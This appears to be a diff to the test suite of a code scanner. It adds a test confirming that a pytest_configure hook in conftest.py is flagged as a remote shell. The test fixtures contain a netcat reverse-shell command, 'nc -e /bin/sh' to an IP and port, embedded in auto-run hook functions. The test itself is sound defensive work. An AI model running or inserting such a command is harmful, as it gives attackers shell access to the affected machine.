@@ -167,4 +167,12 @@ def test_functions_of_hubconf_run_when_torch_hub_loads() -> None:
     body = "    import os\n    os.system('nc -e /bin/sh 192.0.2.10 4444')\n"
     assert blocked_for(scan(f"def model(pretrained=False):\n{body}", "hubconf.py")) == {"remote-shell"}
     assert scan(f"def _model(pretrained=False):\n{body}", "hubconf.py").verdict is not Verdict.BLOCKED
+
+
+def test_hooks_of_pytest() -> None:
+    body = "    import os\n    os.system('nc -e /bin/sh 192.0.2.10 4444')\n"
+    assert blocked_for(scan(f"def pytest_configure(config):\n{body}", "tests/conftest.py")) == {
+        "remote-shell"
+    }
+    assert scan(f"def pytest_configure(config):\n{body}", "plugin.py").verdict is not Verdict.BLOCKED
     assert scan(f"def model(pretrained=False):\n{body}", "models.py").verdict is not Verdict.BLOCKED
